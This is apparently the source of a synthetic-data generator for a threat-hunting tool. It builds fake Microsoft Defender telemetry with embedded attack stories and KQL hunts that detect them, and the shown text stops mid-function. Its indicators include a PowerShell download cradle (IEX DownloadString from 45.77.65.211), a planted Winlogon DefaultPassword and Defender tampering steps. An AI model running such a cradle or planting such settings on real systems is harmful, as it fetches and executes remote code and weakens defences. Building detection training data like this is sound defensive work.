"""A deterministic demo environment, so that a new user can hunt at once.

``generate(seed, devices, days)`` builds, as Arrow tables in the schema, a coherent company:
devices with an OS, a primary user and addresses; DeviceInfo and DeviceNetworkInfo snapshots;
logons; process trees whose ``InitiatingProcess*`` fields are the parent's own details, as
Defender fills them (its file, folder, command line, id, creation time, hashes, account and its
own parent); network connections, file, registry and image-load events by those processes;
DeviceEvents; e-mail with attachments and URLs, clicks on them; and alerts. It is vectorized
(numpy → Arrow) and the same seed, sizes and ``end`` give the same rows.

Attack stories embedded in it, each found by a sample hunt of the README (see ``STORIES``):

1. a phishing mail whose URL is clicked in Outlook, opening the browser on it and downloading
   a macro document (EmailEvents → EmailUrlInfo → UrlClickEvents → DeviceProcessEvents);
2. an encoded PowerShell download cradle launched by that document's Word;
3. credentials written to ``Winlogon\\DefaultPassword`` with ``reg.exe``;
4. remote logons from a public IP address: a password-guessing burst, then a success;
5. Defender troubleshooting mode switched on (``AntivirusTroubleshootModeEvent``);
6. an attempt to add a Defender exclusion and turn real-time protection off, blocked by
   tamper protection (``TamperingAttempt``);
7. the alerts Defender raises for them (AlertInfo, AlertEvidence).

>>> tables = generate(seed=7, devices=3, days=1)
>>> sorted(tables)[:3]
['AlertEvidence', 'AlertInfo', 'DeviceEvents']
"""

from __future__ import annotations

import base64
import hashlib
import json
import uuid
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

from huntsman.schema import catalog
from huntsman.store.coerce import ARROW_TYPES

US = 1_000_000
DAY_US = 86_400 * US
DOMAIN = "contoso"
MAIL_DOMAIN = "contoso.com"

FIRST = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
         "mallory", "niaj", "olivia", "peggy", "rupert", "sybil", "trent", "victor", "walter",
         "xena", "yusuf", "zoe"]
LAST = ["smith", "jones", "brown", "garcia", "miller", "davis", "lopez", "wilson", "moore",
        "taylor", "thomas", "lee", "white", "harris", "clark", "lewis", "young", "king"]

SYSTEM = ("system", "nt authority", "S-1-5-18")
LOCAL_SERVICE = ("local service", "nt authority", "S-1-5-19")
NETWORK_SERVICE = ("network service", "nt authority", "S-1-5-20")


@dataclass(frozen=True)
class Proc:
    """A process image: file, folder, command lines, parent image, account kind, vendor."""

    name: str
    folder: str
    cmds: tuple[str, ...]
    parent: str | None
    account: str  # "user", "system", "local", "network"
    company: str = "Microsoft Corporation"
    product: str = "Microsoft® Windows® Operating System"
    integrity: str = "Medium"
    weight: float = 0.0  # how often a workstation starts it (0: only at boot, or in a story)
    server_weight: float = 0.0


W = "C:\\Windows\\System32\\"
PF = "C:\\Program Files\\"
PFX = "C:\\Program Files (x86)\\"
OFFICE = PF + "Microsoft Office\\root\\Office16\\"
PROCS: list[Proc] = [
    Proc("wininit.exe", W, ("wininit.exe",), None, "system", integrity="System"),
    Proc("services.exe", W, ("C:\\Windows\\system32\\services.exe",), "wininit.exe", "system",
         integrity="System"),
    Proc("userinit.exe", W, ("C:\\Windows\\system32\\userinit.exe",), "wininit.exe", "user"),
    Proc("explorer.exe", "C:\\Windows\\", ("C:\\Windows\\Explorer.EXE",), "userinit.exe", "user",
         weight=0.3),
    Proc("svchost.exe", W, ("C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                           "C:\\Windows\\system32\\svchost.exe -k LocalService -p -s nsi",
                           "C:\\Windows\\System32\\svchost.exe -k NetworkService -p -s Dnscache",
                           "C:\\Windows\\system32\\svchost.exe -k wsappx -p -s AppXSvc"),
         "services.exe", "system", integrity="System", weight=3, server_weight=6),
    Proc("taskhostw.exe", W, ("taskhostw.exe", "taskhostw.exe Install $(Arg0)"), "svchost.exe",
         "user", weight=2, server_weight=2),
    Proc("backgroundTaskHost.exe", W, ("\"backgroundTaskHost.exe\" -ServerName:BackgroundTask"
                                      "Host.WebAccountProvider",), "svchost.exe", "user",
         weight=2),
    Proc("MpCmdRun.exe", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11"
         "-0\\", ("\"MpCmdRun.exe\" -SignaturesUpdateService -ScheduleJob -RestrictPrivileges",
                 "\"MpCmdRun.exe\" -wdenable"), "svchost.exe", "system", integrity="System",
         weight=0.5, server_weight=1),
    Proc("msedge.exe", PFX + "Microsoft\\Edge\\Application\\",
         ("\"msedge.exe\" --type=renderer --lang=en-US",
          "\"msedge.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService",
          "\"msedge.exe\" --no-startup-window"), "explorer.exe", "user",
         product="Microsoft Edge", weight=8),
    Proc("chrome.exe", PF + "Google\\Chrome\\Application\\",
         ("\"chrome.exe\" --type=renderer --lang=en-US", "\"chrome.exe\" --type=gpu-process",
          "\"chrome.exe\""), "explorer.exe", "user", company="Google LLC",
         product="Google Chrome", weight=6),
    Proc("OUTLOOK.EXE", OFFICE, ("\"OUTLOOK.EXE\" ",), "explorer.exe", "user",
         product="Microsoft Outlook", weight=0.6),
    Proc("WINWORD.EXE", OFFICE, ("\"WINWORD.EXE\" /n \"C:\\Users\\{user}\\Documents\\Q3 plan.docx\"",
                                 "\"WINWORD.EXE\" /n \"C:\\Users\\{user}\\Documents\\notes.docx\""),
         "explorer.exe", "user", product="Microsoft Office", weight=0.8),
    Proc("EXCEL.EXE", OFFICE, ("\"EXCEL.EXE\" \"C:\\Users\\{user}\\Documents\\budget.xlsx\"",),
         "explorer.exe", "user", product="Microsoft Office", weight=0.6),
    Proc("ms-teams.exe", "C:\\Program Files\\WindowsApps\\MSTeams_24243.1309.3132.617_x64__8wekyb"
         "3d8bbwe\\", ("\"ms-teams.exe\"", "\"ms-teams.exe\" msteams:system-initiated"),
         "explorer.exe", "user", product="Microsoft Teams", weight=1),
    Proc("cmd.exe", W, ("cmd.exe /c \"dir C:\\Users\\{user}\\Documents\"", "cmd.exe /c ipconfig /all",
                       "cmd.exe /c echo %PATH%"), "explorer.exe", "user", weight=0.7,
         server_weight=0.5),
    Proc("powershell.exe", W + "WindowsPowerShell\\v1.0\\",
         ("powershell.exe -NoProfile -Command Get-Process",
          "powershell.exe -NoLogo -Command \"Get-ChildItem C:\\Users\\{user}\\Downloads\"",
          "powershell.exe -ExecutionPolicy Bypass -File C:\\IT\\inventory.ps1"), "explorer.exe",
         "user", weight=0.6, server_weight=0.8),
    Proc("conhost.exe", W, ("\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",),
         "cmd.exe", "user", weight=0.8, server_weight=0.6),
    Proc("notepad.exe", W, ("\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\{user}\\notes.txt",),
         "explorer.exe", "user", weight=0.5),
    Proc("OneDrive.exe", "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\",
         ("\"OneDrive.exe\" /background",), "explorer.exe", "user", product="Microsoft OneDrive",
         weight=0.5),
    Proc("sqlservr.exe", PF + "Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\",
         ("\"sqlservr.exe\" -sMSSQLSERVER",), "services.exe", "network",
         product="Microsoft SQL Server", integrity="System", server_weight=0.3),
    Proc("w3wp.exe", W + "inetsrv\\", ("c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "
                                       "\"DefaultAppPool\"",), "svchost.exe", "network",
         product="Internet Information Services", integrity="System", server_weight=0.5),
    Proc("WmiPrvSE.exe", W + "wbem\\", ("C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding",),
         "svchost.exe", "network", integrity="System", weight=0.4, server_weight=1.5),
    # story-only images (weight 0: never started by the background)
    Proc("reg.exe", W, ("reg.exe",), "cmd.exe", "user"),
    Proc("MsSense.exe", PF + "Windows Defender Advanced Threat Protection\\", ("\"MsSense.exe\"",),
         "services.exe", "system", integrity="System"),
]
P = {p.name: i for i, p in enumerate(PROCS)}

NET_PROCS = {"msedge.exe": 6, "chrome.exe": 5, "OUTLOOK.EXE": 2, "ms-teams.exe": 3,
             "svchost.exe": 2, "OneDrive.exe": 1, "MpCmdRun.exe": 0.3}
SITES = [("www.microsoft.com", "23.45.229.117"), ("login.microsoftonline.com", "20.190.151.7"),
         ("outlook.office365.com", "52.96.165.18"), ("teams.microsoft.com", "52.113.194.132"),
         ("www.google.com", "142.250.74.36"), ("github.com", "140.82.121.4"),
         ("contoso.sharepoint.com", "13.107.136.10"), ("www.bing.com", "204.79.197.200"),
         ("update.googleapis.com", "142.250.74.99"), ("go.microsoft.com", "23.45.229.120"),
         ("onedrive.live.com", "13.107.42.13"), ("settings-win.data.microsoft.com",
                                                  "20.42.65.92"),
         ("news.ycombinator.com", "209.216.230.207"), ("www.wikipedia.org", "185.15.59.224")]
DLLS = [("ntdll.dll", W), ("kernelbase.dll", W), ("wininet.dll", W), ("winhttp.dll", W),
        ("crypt32.dll", W), ("amsi.dll", W), ("clr.dll",
                                               "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\"),
        ("mscoree.dll", W), ("dbghelp.dll", W), ("samlib.dll", W), ("vaultcli.dll", W)]
REG_KEYS = [
    ("HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs",
     "MRUListEx", "REG_BINARY"),
    ("HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\bam\\State\\UserSettings",
     "\\Device\\HarddiskVolume3\\Windows\\explorer.exe", "REG_BINARY"),
    ("HKEY_CURRENT_USER\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities",
     "LastSignIn", "REG_SZ"),
    ("HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates",
     "SignaturesLastUpdated", "REG_BINARY"),
    ("HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "OneDrive",
     "REG_SZ"),
    ("HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\W32Time\\Config", "LastKnownGoodTime",
     "REG_QWORD"),
]
FILES = [("Q3 plan.docx", "Documents"), ("budget.xlsx", "Documents"), ("notes.txt", ""),
         ("setup.msi", "Downloads"), ("report.pdf", "Downloads"), ("photo.jpg", "Pictures"),
         ("slides.pptx", "Documents"), ("data.csv", "Downloads")]
SENDERS = ["newsletter@fabrikam.com", "support@adatum.com", "no-reply@tailspintoys.com",
           "hr@contoso.com", "it-helpdesk@contoso.com", "sales@wingtiptoys.com",
           "events@northwindtraders.com", "billing@litware.com"]
SUBJECTS = ["Weekly update", "Your order has shipped", "Team offsite agenda", "Q3 planning",
            "Password expiry notice", "Invoice attached", "Meeting notes", "Welcome aboard",
            "Quarterly newsletter", "Expense report approved"]
BENIGN_URLS = ["https://www.fabrikam.com/news/2024", "https://support.adatum.com/kb/3021",
               "https://tailspintoys.com/orders/track", "https://contoso.sharepoint.com/sites/hr",
               "https://northwindtraders.com/events", "https://litware.com/billing/portal"]

# the stories' indicators
PHISH_SENDER = "billing@contoso-invoices.com"
PHISH_SUBJECT = "Overdue invoice #88231 - action required"
PHISH_URL = "https://contoso-invoices.com/pay/88231"
PHISH_DOC = "Invoice_88231.docm"
EVIL_IP = "45.77.65.211"
CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://45.77.65.211/a.ps1')"
BRUTE_IP = "185.220.101.47"
DEFAULT_PASSWORD = "Winter2024!"
EXCLUSION = "C:\\ProgramData\\updater"

STORIES: dict[str, str] = {
    "phishing": "a phishing mail whose URL is clicked in Outlook and opens the browser",
    "cradle": "an encoded PowerShell download cradle launched by Word",
    "default_password": "credentials written to Winlogon\\DefaultPassword",
    "public_logons": "remote logons from a public IP address (failures, then a success)",
    "troubleshooting": "Defender troubleshooting mode switched on",
    "tampering": "a blocked attempt to add a Defender exclusion and turn protection off",
}


HUNTS: dict[str, str] = {
    "phishing": """let clicks = UrlClickEvents
    | where ActionType == "ClickAllowed"
    | project ClickTime = Timestamp, Url, AccountUpn, NetworkMessageId;
EmailEvents
| join kind=inner clicks on NetworkMessageId
| join kind=inner (DeviceProcessEvents
    | where InitiatingProcessFileName =~ "outlook.exe"
    | extend Url = extract(@"(https?://\\S+)", 1, ProcessCommandLine)
    | where isnotempty(Url)) on Url
| project ClickTime, SenderFromAddress, Subject, AccountUpn, DeviceName, FileName, ProcessCommandLine""",
    "cradle": """DeviceProcessEvents
| where FileName =~ "powershell.exe" and ProcessCommandLine has "EncodedCommand"
| project Timestamp, DeviceName, AccountName, InitiatingProcessFileName, ProcessCommandLine""",
    "default_password": """DeviceRegistryEvents
| where RegistryKey endswith @"\\Windows NT\\CurrentVersion\\Winlogon"
    and RegistryValueName == "DefaultPassword"
| project Timestamp, DeviceName, InitiatingProcessCommandLine, RegistryValueData""",
    "public_logons": """DeviceLogonEvents
| where RemoteIPType == "Public"
| summarize Failed = countif(ActionType == "LogonFailed"),
            Succeeded = countif(ActionType == "LogonSuccess"),
            Accounts = make_set(AccountName) by DeviceName, RemoteIP""",
    "troubleshooting": """DeviceEvents
| where ActionType == "AntivirusTroubleshootModeEvent"
| extend State = tostring(parse_json(AdditionalFields).TroubleshootingState)
| project Timestamp, DeviceName, State""",
    "tampering": """DeviceEvents
| where ActionType == "TamperingAttempt"
| extend Details = parse_json(AdditionalFields)
| project Timestamp, DeviceName, InitiatingProcessCommandLine,
          Status = tostring(Details.Status), Target = tostring(Details.Target)""",
    "alerts": """AlertInfo
| join kind=inner (AlertEvidence | where EntityType == "Machine") on AlertId
| project Timestamp, Title, Severity, DeviceName
| sort by Timestamp asc""",
}
"""The README's sample hunts, one per story (tests run each against the demo)."""


def _hex(text: str, n: int = 64) -> str:
    return hashlib.sha256(text.encode()).hexdigest()[:n]


class _Env:
    """The company: devices, users and the per-device process instances."""

    def __init__(self, rng: np.random.Generator, seed: int, devices: int, start_us: int,
                 end_us: int):
        self.rng = rng
        self.seed = seed
        self.n = devices
        self.start = start_us
        self.end = end_us
        idx = np.arange(devices)
        self.server = (idx % 5) == 0
        self.names = [f"{'srv' if s else 'ws'}-{i:03d}.{DOMAIN}.local"
                      for i, s in zip(idx, self.server, strict=True)]
        self.ids = [_hex(f"device-{seed}-{i}", 40) for i in idx]
        self.aad = [str(uuid.UUID(_hex(f"aad-{seed}-{i}", 32))) for i in idx]
        self.ip = [f"10.{1 + i // 250}.{(i // 25) % 10}.{10 + i % 240}" for i in idx]
        self.public_ip = "203.0.113.7"
        n_users = max(devices, 1)
        self.users = [f"{FIRST[i % len(FIRST)]}.{LAST[(i // len(FIRST)) % len(LAST)]}"
                      + (str(i // (len(FIRST) * len(LAST))) if i >= len(FIRST) * len(LAST) else "")
                      for i in range(n_users)]
        self.user_of = idx.copy()  # device i's primary user is user i (servers: admins)
        self.sids = [f"S-1-5-21-3623811015-3361044348-30300820-{1100 + i}" for i in range(n_users)]
        self.upns = [f"{u}@{MAIL_DOMAIN}" for u in self.users]
        self.oids = [str(uuid.UUID(_hex(f"user-{seed}-{i}", 32))) for i in range(n_users)]
        self.platform = ["WindowsServer2022" if s else ("Windows11" if i % 3 else "Windows10")
                         for i, s in zip(idx, self.server, strict=True)]
        self.build = [20348 if s else (22631 if i % 3 else 19045)
                      for i, s in zip(idx, self.server, strict=True)]
        # the victim of the stories: the first workstation; the brute-forced server: srv-000
        ws = np.flatnonzero(~self.server)
        self.victim = int(ws[0]) if len(ws) else 0
        self.target_server = 0

    def pid(self, device: np.ndarray, proc: np.ndarray, salt: int = 0) -> np.ndarray:
        """A stable process id per device and long-running image (parents' ids)."""
        h = (device.astype(np.int64) * 7919 + proc.astype(np.int64) * 104_729
             + salt * 15_485_863 + self.seed * 32_452_843)
        return (h % 15_000) * 4 + 1_000

    def boot(self, device: np.ndarray, ts: np.ndarray) -> np.ndarray:
        """When the device last booted before ``ts`` (each device boots daily at ~06:00)."""
        day = (ts - self.start) // DAY_US
        boot = self.start + day * DAY_US + ((device.astype(np.int64) * 37) % 40) * 60 * US
        return np.where(boot <= ts, boot, boot - DAY_US)


def _dict(choices: list[Any], idx: np.ndarray) -> pa.Array:
    """``choices[idx]`` without materializing: a dictionary array (DuckDB reads it as is)."""
    return pa.DictionaryArray.from_arrays(pa.array(np.asarray(idx, dtype=np.int32)),
                                          pa.array(choices))


def _take(choices: list[Any], idx: np.ndarray) -> pa.Array:
    """``choices[idx]`` materialized (for compute functions that take no dictionaries)."""
    return pc.take(pa.array(choices), pa.array(np.asarray(idx, dtype=np.int64)))


class _Frame:
    """Columns of one table being built; missing ones are "" (strings) or null."""

    def __init__(self, table: str, n: int):
        self.table = table
        self.n = n
        self.cols: dict[str, pa.Array] = {}

    def put(self, name: str, values: Any) -> None:
        if isinstance(values, (str, int, float, bool)) or values is None:
            values = [values] * self.n
        self.cols[name] = values

    def pick(self, name: str, choices: list[Any], idx: np.ndarray) -> None:
        arr = pa.array(choices)
        if pa.types.is_string(arr.type):
            self.cols[name] = _dict(choices, idx)
        else:
            self.cols[name] = pc.take(arr, pa.array(idx, pa.int64()))

    def build(self) -> pa.Table:
        arrays = []
        cols = [(c.name, c.type) for c in catalog().table(self.table).columns]
        for c, t in cols:
            typ = ARROW_TYPES[t]
            v = self.cols.get(c)
            if v is None:
                arrays.append(pa.array([""] * self.n, typ) if t == "string" else
                              pa.nulls(self.n, typ))
                continue
            if isinstance(v, np.ndarray):
                arr = pa.array(v, pa.timestamp("us") if t == "datetime" else None)
            elif isinstance(v, (pa.Array, pa.ChunkedArray)):
                arr = v
            else:
                arr = pa.array(v)
            if pa.types.is_dictionary(arr.type) and arr.type.value_type == typ:
                pass  # strings stay dictionary-encoded: stored as VARCHAR all the same
            elif arr.type != typ:
                arr = arr.cast(typ)
            arrays.append(arr)
        unknown = set(self.cols) - {c for c, _ in cols}
        assert not unknown, f"{self.table}: unknown columns {unknown}"
        return pa.table(arrays, names=[c for c, _ in cols])


def _weights(values: list[float]) -> np.ndarray:
    w = np.asarray(values, dtype=float)
    return w / w.sum()


def _times(env: _Env, rng: np.random.Generator, n: int, office: bool) -> np.ndarray:
    """Event times over the window; office-hours heavy for users."""
    days = rng.integers(0, max((env.end - env.start) // DAY_US, 1), n)
    hour = np.clip(rng.normal(13.0, 3.0, n), 0, 23.99) if office else rng.uniform(0, 24, n)
    ts = env.start + days * DAY_US + (hour * 3600 * US).astype(np.int64) \
        + rng.integers(0, 60 * US, n)
    return np.minimum(ts, env.end - 1)


def _account(env: _Env, kind: np.ndarray, device: np.ndarray
             ) -> tuple[list[str], list[str], list[str], np.ndarray]:
    """Account name/domain/sid dictionaries and per-row index for account kinds."""
    names = [SYSTEM[0], LOCAL_SERVICE[0], NETWORK_SERVICE[0]] + env.users
    domains = [SYSTEM[1], LOCAL_SERVICE[1], NETWORK_SERVICE[1]] + [DOMAIN] * len(env.users)
    sids = [SYSTEM[2], LOCAL_SERVICE[2], NETWORK_SERVICE[2]] + env.sids
    idx = np.where(kind == 0, 3 + env.user_of[device], kind - 1)
    return names, domains, sids, idx


_KIND = {"user": 0, "system": 1, "local": 2, "network": 3}


def _proc_columns(env: _Env, f: _Frame, device: np.ndarray, proc: np.ndarray,
                  ts: np.ndarray, prefix: str, pid: np.ndarray, variant: np.ndarray,
                  created: np.ndarray) -> None:
    """The columns describing process ``proc`` (``prefix`` is "" or "InitiatingProcess")."""
    names = [p.name for p in PROCS]
    folders = [p.folder + p.name for p in PROCS]
    cmds: list[str] = []
    cmd_index = np.zeros((len(PROCS), 4), dtype=np.int64)
    for i, p in enumerate(PROCS):
        for j in range(4):
            cmd_index[i, j] = len(cmds) + j % len(p.cmds)
        cmds.extend(p.cmds)
    pre = prefix
    f.pick(f"{pre}FileName", names, proc)
    nu = len(env.users)
    user = env.user_of[device]
    f.pick(f"{pre}FolderPath", [x.replace("{user}", u) for x in folders for u in env.users],
           proc * nu + user)
    f.pick(f"{pre}CommandLine" if pre else "ProcessCommandLine",
           [x.replace("{user}", u) for x in cmds for u in env.users],
           cmd_index[proc, variant % 4] * nu + user)
    f.put(f"{pre}Id" if pre else "ProcessId", pid)
    f.put(f"{pre}CreationTime" if pre else "ProcessCreationTime", created)
    sha = [_hex(x) for x in folders]
    f.pick(f"{pre}SHA256", sha, proc)
    f.pick(f"{pre}SHA1", [_hex("1" + x, 40) for x in folders], proc)
    f.pick(f"{pre}MD5", [_hex("5" + x, 32) for x in folders], proc)
    f.pick(f"{pre}FileSize", [200_000 + int(_hex(x, 6), 16) % 4_000_000 for x in folders], proc)
    vi = f"{pre}VersionInfo" if pre else "ProcessVersionInfo"
    f.pick(f"{vi}CompanyName", [p.company for p in PROCS], proc)
    f.pick(f"{vi}ProductName", [p.product for p in PROCS], proc)
    f.pick(f"{vi}ProductVersion", ["10.0.22621.3958" if p.company.startswith("Microsoft")
                                   else "129.0.6668.90" for p in PROCS], proc)
    f.pick(f"{vi}InternalFileName", [p.name.rsplit(".", 1)[0] for p in PROCS], proc)
    f.pick(f"{vi}OriginalFileName", [p.name for p in PROCS], proc)
    f.pick(f"{vi}FileDescription", [p.product for p in PROCS], proc)
    f.pick(f"{pre}IntegrityLevel" if pre else "ProcessIntegrityLevel",
           [p.integrity for p in PROCS], proc)
    f.pick(f"{pre}TokenElevation" if pre else "ProcessTokenElevation",
           ["TokenElevationTypeDefault" if p.integrity == "System" else
            "TokenElevationTypeLimited" for p in PROCS], proc)
    kinds = np.array([_KIND[p.account] for p in PROCS])[proc]
    names_a, domains, sids, aidx = _account(env, kinds, device)
    acct = f"{pre}Account" if pre else "Account"
    f.pick(f"{acct}Name", names_a, aidx)
    f.pick(f"{acct}Domain", domains, aidx)
    f.pick(f"{acct}Sid", sids, aidx)
    upns = [""] * 3 + env.upns
    oids = [""] * 3 + env.oids
    f.pick(f"{acct}Upn", upns, aidx)
    f.pick(f"{acct}ObjectId", oids, aidx)
    f.put(f"{pre}LogonId" if pre else "LogonId",
          np.where(kinds == 0, 0x3E7 + 1000 + device.astype(np.int64) * 17, 0x3E7))


def _processes(env: _Env, rng: np.random.Generator, per_day: int) -> tuple[pa.Table, dict]:
    days = max((env.end - env.start) // DAY_US, 1)
    n = env.n * days * per_day
    device = rng.integers(0, env.n, n)
    server = env.server[device]
    ws_w = _weights([p.weight for p in PROCS])
    sv_w = np.array([p.server_weight for p in PROCS], dtype=float)
    sv_w = sv_w / sv_w.sum()
    proc = np.where(server, rng.choice(len(PROCS), n, p=sv_w), rng.choice(len(PROCS), n, p=ws_w))
    ts = np.sort(_times(env, rng, n, office=True))
    parent_of = np.array([P[p.parent] if p.parent else P["wininit.exe"] for p in PROCS])
    parent = parent_of[proc]
    grand = parent_of[parent]
    f = _Frame("DeviceProcessEvents", n)
    f.put("Timestamp", ts)
    f.pick("DeviceId", env.ids, device)
    f.pick("DeviceName", env.names, device)
    f.put("ActionType", "ProcessCreated")
    variant = rng.integers(0, 4, n)
    _proc_columns(env, f, device, proc, ts, "", rng.integers(250, 15_000, n) * 4, variant, ts)
    boot = env.boot(device, ts)
    _proc_columns(env, f, device, parent, ts, "InitiatingProcess", env.pid(device, parent),
                  np.zeros(n, dtype=np.int64), boot + 30 * US)
    f.pick("InitiatingProcessParentFileName", [p.name for p in PROCS], grand)
    f.put("InitiatingProcessParentId", env.pid(device, grand))
    f.put("InitiatingProcessParentCreationTime", boot + 10 * US)
    f.pick("InitiatingProcessSignerType", ["OsVendor"], np.zeros(n, dtype=np.int64))
    f.pick("InitiatingProcessSignatureStatus", ["Valid"], np.zeros(n, dtype=np.int64))
    f.put("ReportId", rng.integers(1, 2**40, n))
    f.put("InitiatingProcessSessionId", np.where(server, 0, 1 + device % 3))
    f.put("CreatedProcessSessionId", np.where(server, 0, 1 + device % 3))
    f.put("IsInitiatingProcessRemoteSession", False)
    f.put("IsProcessRemoteSession", False)
    uniq = rng.integers(10**9, 10**10, n)
    f.put("ProcessUniqueId", pa.array(uniq).cast(pa.string()))
    f.put("InitiatingProcessUniqueId", pa.array(env.pid(device, parent) * 1000 + 7).cast(
        pa.string()))
    return f.build(), {}


def _initiating(env: _Env, f: _Frame, device: np.ndarray, proc: np.ndarray,
                ts: np.ndarray) -> None:
    """``InitiatingProcess*`` of an event caused by a running instance of ``proc``."""
    parent_of = np.array([P[p.parent] if p.parent else P["wininit.exe"] for p in PROCS])
    boot = env.boot(device, ts)
    _proc_columns(env, f, device, proc, ts, "InitiatingProcess", env.pid(device, proc, 1),
                  np.zeros(len(device), dtype=np.int64), boot + 45 * US)
    parent = parent_of[proc]
    f.pick("InitiatingProcessParentFileName", [p.name for p in PROCS], parent)
    f.put("InitiatingProcessParentId", env.pid(device, parent))
    f.put("InitiatingProcessParentCreationTime", boot + 30 * US)
    f.put("InitiatingProcessUniqueId", pa.array(env.pid(device, proc, 1) * 1000 + 3).cast(
        pa.string()))
    names = {c.name for c in catalog().table(f.table).columns}
    for c in list(f.cols):
        if c not in names:
            del f.cols[c]


def _network(env: _Env, rng: np.random.Generator, per_day: int) -> pa.Table:
    days = max((env.end - env.start) // DAY_US, 1)
    n = env.n * days * per_day
    device = rng.integers(0, env.n, n)
    ts = np.sort(_times(env, rng, n, office=True))
    names = list(NET_PROCS)
    proc = np.array([P[x] for x in names])[rng.choice(len(names), n,
                                                     p=_weights(list(NET_PROCS.values())))]
    site = rng.integers(0, len(SITES), n)
    inbound = env.server[device] & (rng.random(n) < 0.3)
    failed = rng.random(n) < 0.03
    f = _Frame("DeviceNetworkEvents", n)
    f.put("Timestamp", ts)
    f.pick("DeviceId", env.ids, device)
    f.pick("DeviceName", env.names, device)
    action = np.where(inbound, 2, np.where(failed, 1, 0))
    f.pick("ActionType", ["ConnectionSuccess", "ConnectionFailed", "InboundConnectionAccepted"],
           action)
    internal_peer = _take(env.ip, rng.integers(0, env.n, n))
    remote_ip = pc.if_else(pa.array(inbound), internal_peer,
                           _take([s[1] for s in SITES], site))
    f.put("RemoteIP", remote_ip)
    f.put("RemoteUrl", pc.if_else(pa.array(inbound), "",
                                  _take([s[0] for s in SITES], site)))
    f.put("RemotePort", np.where(inbound, rng.choice([445, 3389, 1433, 443], n),
                                 rng.choice([443, 443, 443, 80], n)).astype(np.int32))
    f.pick("LocalIP", env.ip, device)
    f.put("LocalPort", np.where(inbound, 445, rng.integers(49152, 65535, n)).astype(np.int32))
    f.put("Protocol", "Tcp")
    f.put("LocalIPType", "Private")
    f.put("RemoteIPType", pc.if_else(pa.array(inbound), "Private", "Public"))
    proc = np.where(inbound, P["services.exe"], proc)
    _initiating(env, f, device, proc, ts)
    f.put("ReportId", rng.integers(1, 2**40, n))
    return f.build()


def _logons(env: _Env, rng: np.random.Generator) -> pa.Table:
    days = max((env.end - env.start) // DAY_US, 1)
    per_day = 6
    n = env.n * days * per_day
    device = np.repeat(np.arange(env.n), days * per_day)
    day = np.tile(np.repeat(np.arange(days), per_day), env.n)
    kind = np.tile(np.array([0, 1, 1, 2, 3, 3]), env.n * days)  # interactive/unlock/network/svc
    ts = env.start + day * DAY_US + (np.array([8.5, 12.5, 14.0, 10.0, 6.1, 18.0])[
        np.tile(np.arange(per_day), env.n * days)] * 3600 * US).astype(np.int64) \
        + rng.integers(0, 1800 * US, n)
    ts = np.minimum(ts, env.end - 1)
    order = np.argsort(ts, kind="stable")
    device, kind, ts = device[order], kind[order], ts[order]
    server = env.server[device]
    f = _Frame("DeviceLogonEvents", n)
    f.put("Timestamp", ts)
    f.pick("DeviceId", env.ids, device)
    f.pick("DeviceName", env.names, device)
    f.put("ActionType", "LogonSuccess")
    logon_type = np.where(kind == 0, np.where(server, 4, 0), np.where(kind == 1, 1,
                          np.where(kind == 2, 2, 3)))
    f.pick("LogonType", ["Interactive", "Unlock", "Network", "Service", "RemoteInteractive"],
           logon_type)
    user = np.where(kind == 3, -1, env.user_of[device])
    names = ["system"] + env.users
    f.pick("AccountName", names, user + 1)
    f.pick("AccountDomain", ["nt authority"] + [DOMAIN] * len(env.users), user + 1)
    f.pick("AccountSid", [SYSTEM[2]] + env.sids, user + 1)
    f.put("Protocol", pc.if_else(pa.array(kind == 2), "Kerberos", ""))
    f.put("IsLocalAdmin", server)
    f.put("LogonId", rng.integers(10**6, 10**8, n))
    peer = rng.integers(0, env.n, n)
    remote = (kind == 2) | (logon_type == 4)
    f.put("RemoteIP", pc.if_else(pa.array(remote), _take(env.ip, peer), ""))
    f.put("RemoteDeviceName", pc.if_else(pa.array(remote),
                                         _take(env.names, peer), ""))
    f.put("RemoteIPType", pc.if_else(pa.array(remote), "Private", ""))
    f.put("RemotePort", pa.nulls(n, pa.int32()))
    proc = np.full(n, P["services.exe"])
    _initiating(env, f, device, proc, ts)
    f.put("ReportId", rng.integers(1, 2**40, n))
    return f.build()


def _files(env: _Env, rng: np.random.Generator, per_day: int) -> pa.Table:
    days = max((env.end - env.start) // DAY_US, 1)
    ws = np.flatnonzero(~env.server) if (~env.server).any() else np.arange(env.n)
    n = len(ws) * days * per_day
    device = ws[rng.integers(0, len(ws), n)]
    ts = np.sort(_times(env, rng, n, office=True))
    fidx = rng.integers(0, len(FILES), n)
    f = _Frame("DeviceFileEvents", n)
    f.put("Timestamp", ts)
    f.pick("DeviceId", env.ids, device)
    f.pick("DeviceName", env.names, device)
    action = rng.choice(4, n, p=[0.45, 0.4, 0.1, 0.05])
    f.pick("ActionType", ["FileModified", "FileCreated", "FileDeleted", "FileRenamed"], action)
    f.pick("FileName", [x[0] for x in FILES], fidx)
    users = _take(env.users, env.user_of[device])
    sub = _take([("\\" + x[1]) if x[1] else "" for x in FILES], fidx)
    folder = pc.binary_join_element_wise("C:\\Users\\", users, sub, "\\",
                                         pc.take(pa.array([x[0] for x in FILES]),
                                                 pa.array(fidx)), "")
    f.put("FolderPath", folder)
    f.put("SHA256", pc.take(pa.array([_hex(f"file{i}-{j}") for i in range(len(FILES))
